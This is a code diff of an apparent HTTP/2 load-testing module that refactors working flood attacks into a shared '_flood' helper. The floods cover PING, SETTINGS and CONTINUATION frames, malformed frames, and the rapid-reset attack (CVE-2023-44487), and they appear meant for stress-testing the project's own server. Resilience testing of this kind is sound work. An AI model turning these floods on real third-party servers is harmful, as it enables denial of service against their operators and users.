@@ -5,10 +5,11 @@ import selectors
 import socket
 import struct
 import threading
-from collections.abc import Callable
+from collections.abc import Callable, Iterable
 from dataclasses import replace
+from itertools import repeat
 
-from loadtest.attack.field import Counts, Field, in_threads
+from loadtest.attack.field import Counts, Field, GoesOn, in_threads
 from loadtest.attack.http2 import (
     ACK,
     CONTINUATION,
@@ -42,13 +43,13 @@ STREAMS = 10_000  # of a connection, before the next
 def pings(field: Field) -> Counts:
     """Sends pings without end; half of the connections never read the answers."""
     block = frame(PING, 0, 0, b"12345678") * BLOCK
-    return _repeated(field, lambda _rank: (b"", block), "pings", odd_ones_read=False)
+    return _flood(field, "pings", lambda _rank: repeat(block), odd_ones_read=False)
 
 
 def settings(field: Field) -> Counts:
     """Sends settings without end, which must be acknowledged; half of the connections never read."""
     block = frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW, 65535)) * BLOCK
-    return _repeated(field, lambda _rank: (b"", block), "settings", odd_ones_read=False)
+    return _flood(field, "settings", lambda _rank: repeat(block), odd_ones_read=False)
 
 
 def frames(field: Field) -> Counts:
@@ -62,7 +63,7 @@ def frames(field: Field) -> Counts:
         frame(RST_STREAM, 0, 9999, bytes(4)),  # a stream that never was
         frame(SETTINGS, ACK),
     ]
-    return _repeated(field, lambda rank: (opening(1), kinds[rank] * BLOCK), "frames", connections=len(kinds))
+    return _flood(field, "frames", lambda rank: repeat(kinds[rank] * BLOCK), first=opening(1), connections=len(kinds))
 
 
 def continuations(field: Field) -> Counts:
@@ -70,12 +71,13 @@ def continuations(field: Field) -> Counts:
     full = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100)) * BLOCK
     empty = frame(CONTINUATION, 0, 1) * BLOCK
     first = frame(HEADERS, 0, 1, request_headers())
-    return _repeated(field, lambda rank: (first, empty if rank % 2 else full), "frames")
+    return _flood(field, "frames", lambda rank: repeat(empty if rank % 2 else full), first=first)
 
 
 def rapid_resets(field: Field) -> Counts:
     """Opens streams and cancels them at once (CVE-2023-44487)."""
-    return _streams(field, _stream_blocks(lambda stream: opening(stream) + reset(stream)))
+    blocks = _stream_blocks(lambda stream: opening(stream) + reset(stream))
+    return _flood(field, "streams", lambda _rank: blocks)
 
 
 def resets_after_data(field: Field) -> Counts:
@@ -84,19 +86,21 @@ def resets_after_data(field: Field) -> Counts:
     def request(stream: int) -> bytes:
         return opening(stream) + frame(DATA, END_STREAM, stream, ONE_IMAGE) + reset(stream)
 
-    return _streams(field, _stream_blocks(request, STREAMS // 20))
+    blocks = _stream_blocks(request, STREAMS // 20)
+    return _flood(field, "streams", lambda _rank: blocks)
 
 
 def unknown_paths(field: Field) -> Counts:
     """Calls methods that the server does not have."""
-    block = request_headers(b"/no.such.Service/Method")
-    return _streams(field, _stream_blocks(lambda stream: opening(stream, block, END_STREAM | END_HEADERS)))
+    headers = request_headers(b"/no.such.Service/Method")
+    blocks = _stream_blocks(lambda stream: opening(stream, headers, END_STREAM | END_HEADERS))
+    return _flood(field, "streams", lambda _rank: blocks)
 
 
 def churn(field: Field) -> Counts:
     """Makes connections and drops them at once."""
 
-    def work(_rank: int, counts: Counts) -> None:
+    def work(_rank: int, counts: Counts, _goes_on: GoesOn) -> None:
         Connection(field.address).close()
         counts["connections"] += 1
 
@@ -125,44 +129,32 @@ def _swallow(listener: socket.socket, field: Field) -> None:
                     selector.unregister(key.fileobj)
 
 
-def _repeated(
-    field: Field,
-    blocks_of: Callable[[int], tuple[bytes, bytes]],
-    unit: str,
-    *,
-    connections: int = CONNECTIONS,
-    odd_ones_read: bool = True,
-) -> Counts:
-    """Sends each connection's first block once and its second for ever; a connection that ends is replaced."""
-
-    def work(rank: int, counts: Counts) -> None:
-        first, block = blocks_of(rank)
-        with Connection(field.address) as connection:
-            counts["connections"] += 1
-            connection.send(first)
-            while field.goes_on(connections * counts[unit]) and connection.send(block):
-                counts[unit] += BLOCK
-                if (odd_ones_read or rank % 2 == 0) and not connection.skip():
-                    return
-
-    return in_threads(connections, field, work, unit)
-
-
 def _stream_blocks(make: Callable[[int], bytes], streams: int = STREAMS) -> list[bytes]:
     """Makes what one connection sends, in blocks: each of its streams has a number of its own."""
     numbers = range(1, 2 * streams, 2)
     return [b"".join(map(make, numbers[start : start + BLOCK])) for start in range(0, streams, BLOCK)]
 
 
-def _streams(field: Field, blocks: list[bytes], unit: str = "streams") -> Counts:
-    """Sends the blocks on one connection after the other."""
+def _flood(
+    field: Field,
+    unit: str,
+    blocks_of: Callable[[int], Iterable[bytes]],
+    *,
+    first: bytes = b"",
+    connections: int = CONNECTIONS,
+    odd_ones_read: bool = True,
+) -> Counts:
+    """Sends on each connection `first` and its blocks, of BLOCK units each; one that ends, or is done, is replaced."""
 
-    def work(_rank: int, counts: Counts) -> None:
+    def work(rank: int, counts: Counts, goes_on: GoesOn) -> None:
         with Connection(field.address) as connection:
             counts["connections"] += 1
-            for block in blocks:
-                if not (field.goes_on(CONNECTIONS * counts[unit]) and connection.send(block) and connection.skip()):
+            connection.send(first)
+            for block in blocks_of(rank):
+                if not (goes_on() and connection.send(block)):
                     return
                 counts[unit] += BLOCK
+                if (odd_ones_read or rank % 2 == 0) and not connection.skip():
+                    return
 
-    return in_threads(CONNECTIONS, field, work, unit)
+    return in_threads(connections, field, work, unit)
